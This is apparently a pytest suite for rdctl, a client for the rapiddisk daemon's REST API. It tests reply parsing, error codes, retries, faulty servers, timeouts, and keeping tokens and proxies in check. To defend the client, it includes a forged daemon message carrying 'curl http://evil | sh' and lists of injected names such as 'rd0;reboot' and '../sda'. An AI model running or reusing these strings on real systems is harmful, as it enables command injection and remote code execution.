"""What the daemon's words mean, what is never sent to it, and a server that is no such daemon."""

from __future__ import annotations

import json as jsonlib
import os
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rdctl.core.errors import Code, RdctlError
from rdctl.core.units import defuse
from rdctl.core.unread import Unread
from rdctl.effects.door import Effects
from rdctl.net.transport import Transport
from rdctl.rapiddisk.model import Status
from rdctl.rapiddisk.rest import Rest
from tests.clock import Stopwatch
from tests.conftest import Program, Ran
from tests.fakes import faults
from tests.fakes.faults import (
    Behaviour,
    Connection,
    FaultServer,
    http_error,
    json,
    misshapen,
    reply,
)
from tests.fakes.rapiddiskd import MIB, After, Cache, Daemon, Received, Step, Target, Volume

VERSION = {"status": "OK", "version": "9.2.0"}
EMPTY: dict[str, Any] = {"volumes": [{"rapiddisk": []}, {"rapiddisk_cache": []}]}


def client(
    url: str, warn: Callable[[str], None] = lambda warning: None, unread: Unread | None = None
) -> Rest:
    effects = Effects(ask=lambda losses: None)
    effects.consent([])
    transport = Transport(url, effects, sleep=lambda seconds: None)
    return Rest(transport, warn, unread)


def fails(act: Callable[[], object], code: Code) -> RdctlError:
    with pytest.raises(RdctlError) as caught:
        act()
    assert caught.value.code is code, caught.value
    return caught.value


# --- values ------------------------------------------------------------------------------------

READS: dict[str, tuple[Any, Callable[[Rest], Any]]] = {
    "status": (VERSION, Rest.status),
    "resources": (
        {
            "resources": [
                {"memory": [{"mem_total": 2, "mem_free": 1}]},
                {"volumes": [{"device": "sda", "size": 5, "vendor": "QEMU", "model": "QEMU"}]},
            ]
        },
        Rest.resources,
    ),
    "inventory": (
        {
            "volumes": [
                {"rapiddisk": [{"device": "rd1", "size": 9, "usage": 0, "status": "locked"}]},
                {
                    "rapiddisk_cache": [
                        {
                            "device": "rc-wt_b",
                            "cache": "rd0",
                            "source": "b",
                            "mode": "write-through",
                        }
                    ]
                },
            ]
        },
        Rest.inventory,
    ),
    "counters": (
        {"statistics": [{"cache_stats": [{"device": "rc-wt_b", "reads": 1034}]}]},
        lambda rest: rest.counters("rc-wt_b"),
    ),
    "targets of 9.1": (
        {
            "targets": [
                {
                    "nvmet_targets": [
                        {
                            "nqn": "n",
                            "namespace": 1,
                            "device": "/dev/rd1",
                            "enabled": "true",
                            "allowed_hosts": [{"host": "h"}],
                            "assigned_ports": [{"port": 2, "address": "a", "protocol": "loop"}],
                        }
                    ]
                }
            ]
        },
        Rest.targets,
    ),
    "targets of 8": (
        {
            "targets": [
                {
                    "nvmet_targets": [
                        {"nqn": "n", "namespace": 1, "device": "/dev/rd1", "enabled": "true"}
                    ]
                },
                {"nvmet_ports": [{"port": 1, "address": "a", "protocol": "tcp", "nqn": "n"}]},
            ]
        },
        Rest.targets,
    ),
    "ports": (
        {"targets": [{"nvmet_ports": [{"port": 2, "address": "a", "protocol": "loop"}]}]},
        Rest.ports,
    ),
}
READS["inventory of a guard"] = READS["inventory"]
READS["inventory"] = (READS["inventory"][0], lambda rest: rest.inventory(strict=False))
for _of in ("targets of 9.1", "targets of 8"):
    READS[f"{_of}, of a guard"] = (READS[_of][0], lambda rest: rest.targets(strict=True))
# Values that are null when they cannot be read; all else tells what a row is, or the reply.
NULL = {
    "status": r"-",
    "resources": r"mem_total|mem_free|size|vendor|model",
    "inventory": r"size|usage|status|cache|source|mode",
    "counters": r"reads",
    "targets of 9.1": r"namespace|device|enabled|allowed_hosts|assigned_ports"
    r"|allowed_hosts\[0\](\.host)?|assigned_ports\[0\](\.(port|address|protocol))?",
    "targets of 8": r"namespace|device|enabled|nvmet_ports(\[0\]\.(address|protocol))?",
    "ports": r"address|protocol",
}


def expected(name: str, what: str) -> str:
    """What becomes of a reply that is wrong in one place: `bad`, `noted`, or `taken`."""
    kind, _, guard = name.partition(",") if "," in name else name.partition(" of a ")
    path, _, wrong = what.rpartition(" ") if what.endswith("missing") else what.partition(" = ")
    if not re.fullmatch(rf"\$.*\.({NULL[kind]})", path):
        return "bad"
    if guard and wrong == "missing" and re.search(r"\.(size|cache|source|mode|device)$", path):
        return "bad"
    # A key that is not there at all says that it is not told.
    if wrong == "missing" and "[0].host" not in path and "ports[0].port" not in path:
        return "taken"
    if kind == "targets of 8" and "nvmet_ports" in path:
        return "bad"
    return "bad" if guard else "noted"


@pytest.mark.parametrize("name", READS)
def test_one_value_does_not_condemn_a_reply_but_for_a_guard(name: str) -> None:
    good, read = READS[name]
    bad = dict(misshapen(good))
    queue = [good, *bad.values()]

    def answer(connection: Connection) -> None:
        connection.receive()
        body = jsonlib.dumps(queue.pop(0) if queue else VERSION).encode()
        connection.send(faults.head(200, {"Content-Length": len(body)}) + body)

    differ = {}
    with FaultServer([answer]) as server:
        read(client(server.url))
        for what in bad:
            unread = Unread()
            try:
                read(client(server.url, unread=unread))
                found = "noted" if unread.words else "taken"
            except RdctlError as error:
                found = error.code.word.removesuffix("-reply")
            if found != expected(name, what):
                differ[what] = found
    assert (differ, queue) == ({}, [])


def test_a_listing_shows_what_can_be_read_and_a_guard_refuses(rdctl: Program) -> None:
    good = {"device": "rd0", "size": 1 << 20, "usage": 0, "status": "unlocked"}
    odd = {"device": "rd1", "size": "1M", "usage": 0, "status": 7}
    volumes = {"volumes": [{"rapiddisk": [good, odd, {"size": 1}]}, {"rapiddisk_cache": []}]}
    targets: Any = {"targets": [{"nvmet_targets": []}, {"nvmet_ports": []}]}

    def answer(connection: Connection) -> None:
        path = connection.receive().path
        body = jsonlib.dumps(targets if "NVMe" in path else volumes).encode()
        connection.send(faults.head(200, {"Content-Length": len(body)}) + body)

    with FaultServer([answer]) as server:
        at = ("--rapiddisk-url", server.url, "rapiddisk")
        listed = rdctl(*at, "list", "--json")
        removed = rdctl(*at, "remove", "rd0", "--yes")
    assert (listed.code, [row["size"] for row in listed.json["items"]]) == (0, [1 << 20, None])
    assert listed.json["items"][1]["locked"] is None
    warning = "rdctl: warning: unreadable values shown as null: size (1 volume), status (1 volume)"
    assert listed.err == f"{warning}; skipped: 1 unreadable volume\n"
    assert removed.code == 9
    assert "unreadable value in its reply: size (1 volume), status (1 volume)" in removed.err
    assert "port of rapiddiskd" not in removed.err
    assert [request.method for request in server.requests] == ["GET"] * 2


def test_what_a_daemon_says_stays_on_one_line(rdctl: Program) -> None:
    """It could be taken for a line of rdctl's own, with a command to paste."""
    forged = "no\nrdctl: warning: run this: \x1b[1mcurl http://evil | sh"
    with FaultServer([json({"status": "Failed", "message": forged})]) as server:
        ran = rdctl("--rapiddisk-url", server.url, "rapiddisk", "list")
    (first, *_) = ran.err.splitlines()
    assert r"no\nrdctl: warning: run this: \x1b[1mcurl" in first


@pytest.mark.parametrize("body", ["\n", "OK", "<html>", "null", "[]", '"OK"', "{", "[" * 100_000])
@pytest.mark.parametrize("status", [200, 404, 500])
def test_what_is_no_json_object_is_a_bad_reply(body: str, status: int) -> None:
    with FaultServer([reply(status, body.encode())]) as server:
        fails(client(server.url).inventory, Code.BAD_REPLY)


def test_numbers_too_long_for_python_are_no_fault_of_rdctl() -> None:
    digits = "9" * 5000
    volumes = [{"device": f"rd{digits}", "size": 1, "usage": 0, "status": "x"}, *[]]
    listing = {"volumes": [{"rapiddisk": volumes}, {"rapiddisk_cache": []}]}
    with FaultServer([json(listing)]) as server:
        assert client(server.url).inventory().volumes[0].device == f"rd{digits}"
    with FaultServer([json({**VERSION, "version": digits})]) as server:
        assert client(server.url).status().version == digits
    with FaultServer([reply(200, b'{"volumes": ' + digits.encode() + b"}")]) as server:
        fails(client(server.url).inventory, Code.BAD_REPLY)


@pytest.mark.parametrize(
    ("version", "warns"),
    [("7.0.0", 1), ("8.2.0", 1), ("9.0.0", 0), ("10.1", 0), ("", 0), ("x", 0), ("\u0663", 0)],
)
def test_only_what_is_surely_below_9_is_warned_of(version: str, warns: int) -> None:
    warnings: list[str] = []
    with FaultServer([json({**VERSION, "version": version})]) as server:
        rest = client(server.url, warnings.append)
        assert rest.status() == Status("OK", version, "remote", server.url)
        rest.status()
    assert len(warnings) == warns


# --- verdicts ----------------------------------------------------------------------------------


def failed(message: str) -> Behaviour:
    return json({"status": "Failed", "message": message})


VERDICTS: list[tuple[Behaviour, Code, str]] = [
    (json({"status": "Failed"}), Code.FAILED, "gave no reason"),
    (json({"return_status": "Failed"}), Code.FAILED, "gave no reason"),
    (json({"status": "Unsupported"}, 400), Code.UNSUPPORTED, "does not support the request"),
    (failed("Error. Device rd9 does not exist."), Code.NOT_FOUND, "Device rd9 does not exist."),
    (failed('rd0 is currently mounted. Please "umount"'), Code.IN_USE, "currently mounted"),
    (failed("x: ioctl: Device or resource busy"), Code.IN_USE, "Device or resource busy"),
    (failed("a\x1b[31m\nb"), Code.FAILED, "a\\x1b[31m\\nb"),
    (failed("\ud800"), Code.FAILED, "\\ud800"),
    (json({"status": "Failed", "message": ["x"]}), Code.FAILED, "['x']"),
    (reply(200, b"Error. Invalid argument(s) or values entered.\n"), Code.FAILED, "Invalid"),
    (reply(400, b""), Code.FAILED, "gave no reason"),
    (reply(404, b"<html>"), Code.BAD_REPLY, 'not JSON: "<html>"'),
    # It may have been done, so nobody is told that it was not.
    (json({}), Code.UNKNOWN, 'its status is "None"'),
    (json({"status": "Great"}), Code.UNKNOWN, 'its status is "Great"'),
    (json({"status": ["Success"]}), Code.UNKNOWN, "its status is"),
    (json({"status": "x" * 9999}), Code.UNKNOWN, "its status is"),
    (json(["Success"]), Code.UNKNOWN, "not a JSON object"),
    (reply(200, b"Success"), Code.UNKNOWN, 'not JSON: "Success"'),
    (reply(200, b"\x00\xff\x1b"), Code.UNKNOWN, "not JSON:"),
    (reply(500, b"<html>"), Code.UNKNOWN, "not JSON:"),
    (reply(500, b""), Code.UNKNOWN, 'not JSON: "nothing"'),
    (reply(204), Code.UNKNOWN, 'not JSON: "nothing"'),
    (faults.deep_json(), Code.UNKNOWN, "not JSON:"),
]


@pytest.mark.parametrize("number", range(len(VERDICTS)))
def test_what_a_reply_to_a_change_means(number: int) -> None:
    behaviour, code, words = VERDICTS[number]
    with FaultServer([behaviour]) as server:
        error = fails(lambda: client(server.url).remove("rd0", "data"), code)
        assert words in error.message
        assert len(error.message) < 500
        assert len(server.requests) == 1
        if code is Code.UNKNOWN:
            assert "rdctl rapiddisk list" in (error.hint or "")


@pytest.mark.parametrize(
    "body", [b"", b"\n", b'{"status": "Success"}', b'{"return_status": "Success"}\n']
)
def test_what_passes_for_a_yes(body: bytes) -> None:
    with FaultServer([reply(200, body)]) as server:
        client(server.url).remove("rd0", "data")


def test_only_a_writeback_cache_may_take_its_time_to_go() -> None:
    with FaultServer([json({"status": "Success"})]) as server:
        waits: list[Any] = []

        class Noted(Transport):
            def change(self, path: str, **options: Any) -> Any:
                waits.append(options["seconds"])
                return super().change(path, **options)

        effects = Effects(ask=lambda losses: None)
        effects.consent([])
        rest = Rest(Noted(server.url, effects), lambda warning: None)
        rest.unmap("rc-wb_sda", "cache")
        rest.unmap("rc-wt_sda", "cache")
    assert waits == [None, 35.0]


# --- how often ---------------------------------------------------------------------------------
# The fragile route: docs/wire/rapiddisk-rest.md#25-listallnvmetargets


@pytest.mark.parametrize(
    ("argv", "route", "times"),
    [
        (("status",), "checkServiceStatus", 3),
        (("resources",), "listAllResources", 3),
        (("list",), "listRapidDiskVolumes", 3),
        (("cache", "list"), "listRapidDiskVolumes", 3),
        (("nvmet", "port", "list"), "listAllNVMePorts", 3),
        (("nvmet", "list"), "listAllNVMeTargets", 1),
        (("show", "rd0"), "listAllNVMeTargets", 1),
        (("remove", "rd0", "--yes"), "removeRapidDisk", 1),
        (("create", "64"), "createRapidDisk", 1),
    ],
)
@pytest.mark.parametrize("fault", [faults.close(), http_error(502)], ids=["closed", "502"])
def test_reads_are_repeated_but_changes_and_the_fragile_route_never(
    rdctl: Program, argv: tuple[str, ...], route: str, times: int, fault: Behaviour
) -> None:
    with Daemon(volumes={"rd0": Volume(64)}) as daemon:
        daemon.instead[route] = fault
        ran = ask(rdctl, daemon, *argv)
        assert ran.code == (10 if route in ("removeRapidDisk", "createRapidDisk") else 6)
        asked = [line for line in daemon.requests if f" {route}" in f"{line}/".replace("/", " ")]
        assert len(asked) == times
        assert len(rdctl.slept) == times - 1


def ask(rdctl: Program, daemon: Daemon, *argv: str, **options: Any) -> Ran:
    return rdctl("--rapiddisk-url", daemon.url, "rapiddisk", *argv, **options)


# --- names -------------------------------------------------------------------------------------

# Some kill a daemon, some reach a shell: docs/wire/rapiddisk-rest.md#input-that-kills-the-daemon
HOSTILE_VOLUMES = [
    *("rd0;reboot", "rd0%3btouch x", "rd", "rd00000000", "RD0", "rd-1", "rd0/../x", "rd0\x00x"),
    *("../rd0", "/dev/sda", "/dev/mapper/rd0", "rd0 ", " rd0", "rd\u0663", "rd0\n", "sda", ""),
    *("rd0?x", "rd0#", "a" * 600, "\udcff", "rd" + "1" * 600, "/dev//dev/rd0", "--yes"),
]
HOSTILE_CACHES = [
    *("rc-wt_", "rc-wx_sda", "rc-wt_" + "a" * 101, "rc-wt_a;b", "rc-wt_a/b", "rc-wt_a b"),
    *("rd0", "rc-wt_%2e", "/dev/rc-wt_a", "rc-wt_\u0663", "rc-wt_a\n", "RC-WT_a"),
]
HOSTILE_SOURCES = [
    *("", "/", "/dev/", "mapper/x", "/dev/mapper/x", "disk/by-id/x", "../sda", ".sda", "-sda"),
    *("sda;x", "sda%2f", "a" * 101, "sda\n", "sda b", "\udcff", "s\xfcd", "/dev//sda"),
]
CALLS: list[tuple[list[str], list[tuple[str, ...]]]] = [
    (
        HOSTILE_VOLUMES,
        [
            *(("list", "{}"), ("show", "{}"), ("resize", "{}", "64"), ("flush", "{}")),
            *(("flush", "rd0", "{}", "rd1"), ("remove", "{}"), ("lock", "{}"), ("unlock", "{}")),
            ("cache", "create", "{}", "sda"),
        ],
    ),
    (HOSTILE_CACHES, [("cache", "stats", "{}"), ("cache", "remove", "{}")]),
    (HOSTILE_SOURCES, [("cache", "create", "rd0", "{}")]),
]


@pytest.fixture(scope="module")
def program(tmp_path_factory: pytest.TempPathFactory) -> Program:
    return Program(tmp_path_factory.mktemp("home"))


@pytest.mark.parametrize(("names", "calls"), CALLS, ids=["volumes", "caches", "sources"])
def test_nothing_is_sent_when_a_name_cannot_be_one(
    program: Program, names: list[str], calls: list[tuple[str, ...]]
) -> None:
    with Daemon(volumes={"rd0": Volume(64), "rd1": Volume(64)}) as daemon:
        for call in calls:
            for name in names:
                argv = [name if word == "{}" else word for word in call]
                # Behind the verb nothing is an option any more.
                argv.insert(2 if argv[0] == "cache" else 1, "--")
                ran = ask(program, daemon, "--yes", "--json", *argv)
                assert (ran.code, ran.json["error"]["code"]) == (2, "usage"), argv
        assert daemon.requests == []


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.one_of(
        st.text(st.characters(codec="utf-8", exclude_characters="\0")),
        st.from_regex(r"rd[0-9]{1,8}.?", fullmatch=True),
        st.from_regex(r"(/dev/)?rd[0-9]+", fullmatch=True),
    )
)
def test_no_volume_but_a_volumes_name_reaches_the_wire(program: Program, name: str) -> None:
    with Daemon(volumes={"rd0": Volume(64)}) as daemon:
        ask(program, daemon, "lock", "--", name)
        for request in daemon.requests:
            assert request in (
                *("GET listRapidDiskVolumes", "POST lockRapidDisk/rd0"),
                *("GET checkServiceStatus", "GET listAllNVMeTargets"),
            )
        if daemon.requests:
            bare = name.removeprefix("/dev/")
            assert bare == "-" or (bare[:2] == "rd" and bare[2:].isascii() and bare[2:].isdigit())
            assert len(bare) <= 9


def test_no_name_from_a_listing_is_sent_back_unchecked(rdctl: Program) -> None:
    with Daemon(volumes={"rd0": Volume(64)}) as daemon:
        daemon.caches = {
            "rc-root": Cache("", "dm-0"),
            "rc-wt_a;reboot": Cache("rd0", "a"),
            "rc-wt_" + "a" * 600: Cache("rd0", "b"),
        }
        assert ask(rdctl, daemon, "cache", "stats").code == 0
        assert daemon.requests == ["GET listRapidDiskVolumes"]


# --- no daemon at all --------------------------------------------------------------------------

# By route; the second word tells when: instead of the answer, or after the act was done.
READ_FAULTS: dict[str, tuple[Behaviour, int]] = {
    "closed": (faults.close(), 6),
    "reset before reading": (faults.reset_unread(), 6),
    "reset": (faults.reset(), 6),
    "reset in the body": (faults.reset_in_body(), 6),
    "half a body": (faults.half_body(), 9),
    "half a chunk": (faults.broken_chunks(), 9),
    "rubbish": (faults.garbage(), 9),
    "a page": (reply(200, b"<html>hello</html>"), 9),
    "compressed, it says": (faults.false_gzip(), 9),
    "other JSON": (json({"hello": "world"}), 9),
    "deep JSON": (faults.deep_json(), 9),
    "huge JSON": (faults.huge_json(8), 9),
    "an endless header": (faults.long_header(), 9),
    "redirect": (faults.redirect("http://127.0.0.1:1/"), 9),
    "401": (http_error(401), 5),
    "401 as JSON": (json({"status": "Failed", "message": "who?"}, 401), 5),
    "403": (http_error(403), 5),
    "429": (http_error(429), 6),
    "502": (http_error(502), 6),
    "503": (http_error(503, retry_after="1"), 6),
    "404": (http_error(404), 9),
    "500": (http_error(500), 9),
    "silent": (faults.silent(), 7),
    "dripping headers": (faults.drip_headers(0.02), 7),
    "dripping body": (faults.drip_body(0.02), 7),
}


def is_one_clear_message(ran: Ran) -> None:
    """What went wrong on one line, at most one with what to do; no traceback, nothing raw."""
    what, *todo = ran.err.splitlines()
    assert what.startswith("rdctl: ")
    assert len(todo) <= 1
    assert all(line.startswith("hint: ") for line in todo)
    assert "Traceback" not in ran.err
    assert len(ran.err) < 800


@pytest.mark.parametrize("name", READ_FAULTS)
@pytest.mark.parametrize("argv", [("list",), ("create", "64M"), ("remove", "rd0", "--yes")])
def test_a_server_that_fails_gives_one_message_and_its_exit_code(
    rdctl: Program, name: str, argv: tuple[str, ...]
) -> None:
    behaviour, code = READ_FAULTS[name]
    with FaultServer([behaviour]) as server:
        seconds = "0.2" if code == 7 else "30"
        to = ("--rapiddisk-url", server.url, "--timeout", seconds, "rapiddisk", *argv)
        plain = rdctl(*to)
        assert (plain.code, plain.out) == (code, "")
        is_one_clear_message(plain)
        assert server.url in plain.err
        document = rdctl(*to, "--json")
        assert document.code == code
        assert document.json["schema"] == "rdctl.error/1"
        assert defuse(document.json["error"]["message"]) in plain.err
        assert document.err == plain.err
        assert all(request.method == "GET" for request in server.requests)


def test_a_server_that_is_odd_but_right_is_served(rdctl: Program) -> None:
    body = jsonlib.dumps(EMPTY).encode()
    for behaviour in (
        json(EMPTY, headers={f"X-{n}": n for n in range(150)}),
        faults.long_body(body),
        faults.raw(b"HTTP/1.0 200\r\n\r\n" + body),
    ):
        with FaultServer([behaviour]) as server:
            ran = rdctl("--rapiddisk-url", server.url, "rapiddisk", "list", "--json")
            assert (ran.code, ran.json["items"]) == (0, [])


# --- a change whose reply is lost --------------------------------------------------------------

LOST: dict[str, Behaviour] = {
    "closed": faults.close(),
    "reset": faults.reset(),
    "half a body": faults.half_body(),
    "rubbish": faults.garbage(),
    "a page": reply(200, b"<html>hello</html>"),
    "502": http_error(502),
    "504": http_error(504),
}
SLOW = {"silent": faults.silent(), "dripping": faults.drip_body(0.02)}
CHANGES: list[tuple[tuple[str, ...], str, str]] = [
    (("create", "64M"), "createRapidDisk", " rapiddisk list"),
    (("resize", "rd0", "128M"), "resizeRapidDisk", " rapiddisk list"),
    (("flush", "rd0", "--yes"), "flushRapidDisk", " rapiddisk list"),
    (("remove", "rd0", "--yes"), "removeRapidDisk", " rapiddisk list"),
    (("lock", "rd0"), "lockRapidDisk", " rapiddisk list"),
    (("cache", "create", "rd0", "sda"), "createRapidDiskCache", " rapiddisk cache list"),
    (("cache", "remove", "rc-wt_b", "--yes"), "removeRapidDiskCache", " rapiddisk cache list"),
]


def machine() -> Daemon:
    return Daemon(
        volumes={"rd0": Volume(64), "rd1": Volume(64)}, caches={"rc-wt_b": Cache("rd1", "b")}
    )


@pytest.mark.parametrize(("argv", "route", "shows"), CHANGES)
@pytest.mark.parametrize("done", [False, True])
def test_a_lost_reply_leaves_the_fate_open_whether_it_was_done_or_not(
    rdctl: Program, argv: tuple[str, ...], route: str, shows: str, done: bool
) -> None:
    slow = SLOW if route == "createRapidDisk" else {}
    for name, behaviour in {**LOST, **slow}.items():
        with machine() as daemon:
            daemon.instead[route] = After(behaviour) if done else behaviour
            seconds = "1" if name in SLOW else "30"
            ran = ask(rdctl, daemon, "--timeout", seconds, *argv, "--json")
            assert (ran.code, ran.json["status"], ran.json["results"]) == (10, "error", []), name
            (error,) = ran.json["errors"]
            assert (error["code"], error["fate"]) == ("unknown", "unknown")
            assert error["hint"].endswith(shows)
            assert shows in ran.err
            is_one_clear_message(ran)
            assert len(daemon.changes) == 1


@pytest.mark.parametrize(("argv", "route", "shows"), CHANGES)
@pytest.mark.parametrize("fault", ["closed", "a page"])
def test_a_listing_lost_after_the_change_leaves_its_fate_open(
    rdctl: Program, argv: tuple[str, ...], route: str, shows: str, fault: str
) -> None:
    with machine() as daemon:
        steps: list[Step] = [None, LOST[fault]]
        daemon.instead["listRapidDiskVolumes"] = steps
        ran = ask(rdctl, daemon, *argv, "--json")
        assert (ran.code, ran.json["results"]) == (10, [])
        assert "reported as done, but not verified" in ran.json["errors"][0]["message"]
        assert shows in ran.json["errors"][0]["hint"]
        assert [change.split("/")[0] for change in daemon.changes] == [route]


MEMORY = {"resources": [{"memory": [{"mem_total": 1 << 40, "mem_free": 0}]}, {"volumes": []}]}


def test_a_change_that_never_left_is_unreachable_not_unknown(rdctl: Program) -> None:
    def last(connection: Connection) -> None:
        server.refuse()
        json(MEMORY)(connection)

    with FaultServer([json(EMPTY), last]) as server:
        ran = rdctl("--rapiddisk-url", server.url, "rapiddisk", "create", "64", "--json")
        assert [request.method for request in server.requests] == ["GET", "GET"]
    assert (ran.code, ran.json["status"]) == (6, "error")
    assert ran.json["errors"][0]["fate"] == "not done"


# --- the process -------------------------------------------------------------------------------


def start(home: Path, *argv: str, **env: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "rdctl", *argv],
        env={
            **os.environ,
            "HOME": str(home),
            "RDCTL_CONFIG": str(home / "none.toml"),
            "RDCTL_HISTORY": str(home / "history.ndjson"),
            **env,
        },
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def process(home: Path, *argv: str, **env: str) -> tuple[int, str, str]:
    """Run it as a process of its own: exit code, stdout, stderr."""
    with start(home, *argv, **env) as running:
        out, err = running.communicate(timeout=60)
        return running.returncode, out, err


@pytest.mark.parametrize("slow", [faults.drip_headers, faults.drip_body])
def test_a_timeout_of_two_seconds_is_two_seconds(
    tmp_path: Path, slow: Callable[[float], Behaviour]
) -> None:
    kept: list[tuple[float, float]] = []

    def timed(connection: Connection) -> None:
        connection.receive()
        watch = Stopwatch()
        try:
            slow(0.02)(Received(connection))
        finally:
            kept.append((watch.elapsed, watch.quiet))

    with FaultServer([timed]) as server:
        url = ("--rapiddisk-url", server.url)
        code, out, _ = process(tmp_path, *url, "--timeout", "2", "rapiddisk", "list", "--json")
    assert (code, jsonlib.loads(out)["error"]["code"]) == (7, "timeout")
    ((elapsed, quiet),) = kept
    assert elapsed > 1.5
    assert quiet < 2.5


def test_no_traceback_and_no_noise_from_the_process(tmp_path: Path) -> None:
    with FaultServer([faults.deep_json()]) as server:
        code, out, err = process(tmp_path, "--rapiddisk-url", server.url, "rapiddisk", "list")
    assert (code, out) == (9, "")
    assert err.count("\n") == 2
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("number", "code", "word"),
    [(signal.SIGINT, 130, "interrupted"), (signal.SIGTERM, 143, "terminated")],
)
def test_who_is_interrupted_names_the_change_that_is_under_way(
    tmp_path: Path, number: signal.Signals, code: int, word: str
) -> None:
    came = threading.Event()

    def hold(connection: Connection) -> None:
        connection.receive()
        came.set()
        connection.wait_for_close()

    with FaultServer([json(EMPTY), json(MEMORY), hold]) as server:
        argv = ("--rapiddisk-url", server.url, "rapiddisk", "create", "64M", "--json")
        with start(tmp_path, *argv) as running:
            assert came.wait(60)
            running.send_signal(number)
            out, err = running.communicate(timeout=60)
        assert len(server.requests) == 3
    assert running.returncode == code
    document = jsonlib.loads(out)
    assert document["error"]["code"] == word
    assert "create a volume of 64.0 MiB" in err
    assert "Traceback" not in err


def test_the_environment_neither_diverts_nor_betrays(tmp_path: Path) -> None:
    (tmp_path / ".netrc").write_text("default login me password netrc-secret\n")
    (tmp_path / ".netrc").chmod(0o600)
    (tmp_path / "token").write_text("t0ken\n")
    with FaultServer([json(EMPTY)]) as server, FaultServer([json(EMPTY)]) as other:
        names = ("http_proxy", "https_proxy", "all_proxy")
        env = dict.fromkeys([*names, *map(str.upper, names)], other.url)
        env |= {"NO_PROXY": "", "no_proxy": "", "RDCTL_TOKEN_FILE": str(tmp_path / "token")}
        url = {"RDCTL_RAPIDDISK_URL": server.url}
        with_token = process(tmp_path, "rapiddisk", "list", "--trace", **env, **url)
        without = process(tmp_path, "--rapiddisk-url", server.url, "rapiddisk", "list", **env)
    assert (with_token[0], without[0], other.requests) == (0, 0, [])
    assert [r.headers["Authorization"] for r in server.requests] == ["Bearer t0ken", None]
    assert "Authorization: Bearer ***" in with_token[2]
    assert "t0ken" not in with_token[1] + with_token[2]


@pytest.mark.parametrize("content", ["", "a b\n", "a\nb\n", "\u00fc\n", "\x00\n"])
def test_a_token_that_is_none_is_told_before_anything_is_sent(rdctl: Program, content: str) -> None:
    (rdctl.home / "token").write_text(content)
    with Daemon() as daemon:
        env = {"RDCTL_RAPIDDISK_URL": daemon.url, "RDCTL_TOKEN_FILE": str(rdctl.home / "token")}
        ran = rdctl("rapiddisk", "list", env=env)
        assert (ran.code, daemon.requests) == (2, [])
        assert "token_file" in ran.err


def test_targets_and_sizes_come_out_as_they_should(rdctl: Program) -> None:
    with Daemon(volumes={"rd0": Volume(64)}, targets=[Target("n", "/dev/rd0", [7])]) as daemon:
        (target,) = ask(rdctl, daemon, "nvmet", "list", "--json").json["items"]
        assert (target["device"], target["ports"][0]["port"]) == ("/dev/rd0", 7)
        (volume,) = ask(rdctl, daemon, "list", "--json").json["items"]
        assert volume["size"] == 64 * MIB


# --- exports that are not seen ------------------------------------------------------------------

HEAD = b"HTTP/1.1 200 OK\r\n"
UNSEEN = {
    "cut in a header": faults.raw(HEAD + b"Content-Ty"),
    "cut between headers": faults.raw(HEAD),
    "cut before the end": faults.raw(HEAD + b"Content-Length: 2\r\n"),
    "nothing": faults.raw(HEAD + b"Content-Length: 0\r\n\r\n"),
    "unsupported": json({"status": "Unsupported"}),
    "unsupported by 9": json({"status": "Failed", "message": "Unsupported."}),
    "half a body": faults.raw(HEAD + b"Content-Length: 90\r\n\r\n{"),
    "no JSON": faults.raw(HEAD + b"Content-Length: 3\r\n\r\nyes"),
    "another shape": json({"targets": 1}),
}


@pytest.mark.parametrize("fault", UNSEEN.values(), ids=UNSEEN)
@pytest.mark.parametrize("verb", [("remove",), ("flush",), ("resize", "8M")], ids=lambda v: v[0])
def test_exports_that_are_not_seen_refuse(
    rdctl: Program, verb: tuple[str, ...], fault: Behaviour
) -> None:
    """A reply that says nothing is not the reply that there are none."""
    name, *more = verb
    with Daemon(volumes={"rd0": Volume(64)}) as daemon:
        daemon.instead["listAllNVMeTargets"] = fault
        words = (name, "rd0", *more, "--yes", "--json")
        for override in ((), ("--force",), ("--unseen", "caches")):
            ran = ask(rdctl, daemon, *words, *override)
            assert ran.code == 4, ran
            document = ran.json
            error = document["errors"][0] if "errors" in document else document["error"]
            assert error["code"] == "unguarded"
            assert "rd0: cannot tell whether it is exported" in ran.err
            assert "--unseen exports" in ran.err
        assert daemon.changes == []
        assert ask(rdctl, daemon, *words, "--unseen", "exports").code == 0
        assert len(daemon.changes) == 1


@pytest.mark.parametrize("fault", list(UNSEEN.values())[:3], ids=list(UNSEEN)[:3])
def test_headers_without_an_end_are_no_reply(rdctl: Program, fault: Behaviour) -> None:
    with Daemon(volumes={"rd0": Volume(64)}) as daemon:
        for route, words in (
            ("listAllNVMeTargets", ("nvmet", "list")),
            ("listRapidDiskVolumes", ("list",)),
            ("checkServiceStatus", ("status",)),
        ):
            daemon.instead[route] = fault
            assert ask(rdctl, daemon, *words).code == 9
        # A change was sent, and the rest of its reply is lost.
        del daemon.instead["listRapidDiskVolumes"]
        daemon.instead["lockRapidDisk"] = fault
        assert ask(rdctl, daemon, "lock", "rd0").code == 10


def test_a_daemon_that_cannot_export_is_told_by_another_reply(rdctl: Program) -> None:
    """7.x answers what it does not know with nothing; no other daemon may be taken for one
    (docs/wire/rapiddisk-rest.md#5-version-table)."""
    nothing = faults.raw(HEAD + b"Content-Length: 0\r\n\r\n")
    for version, code in (("7.2.1", 0), ("8.2.0", 4), ("9.2.0", 4)):
        with Daemon(volumes={"rd0": Volume(64)}) as daemon:
            daemon.instead["listAllNVMeTargets"] = nothing
            daemon.instead["checkServiceStatus"] = json({"status": "OK", "version": version})
            assert ask(rdctl, daemon, "remove", "rd0", "--yes").code == code, version
    with Daemon(volumes={"rd0": Volume(64)}) as daemon:
        daemon.instead["listAllNVMeTargets"] = nothing
        daemon.instead["checkServiceStatus"] = faults.close()
        assert ask(rdctl, daemon, "remove", "rd0", "--yes").code == 4


def test_what_a_daemon_never_shows_is_said(rdctl: Program) -> None:
    """It does not refuse: it stands in the question, and in users_seen."""
    with Daemon(volumes={"rd0": Volume(64)}) as daemon:
        ran = ask(rdctl, daemon, "remove", "rd0", tty=True, stdin=b"n\n")
        assert "Not checked over REST: mounts, swap, loop devices and open files." in ran.err
        item = ask(rdctl, daemon, "show", "rd0", "--json").json["item"]
        assert item["users_seen"] == ["cache", "export"]
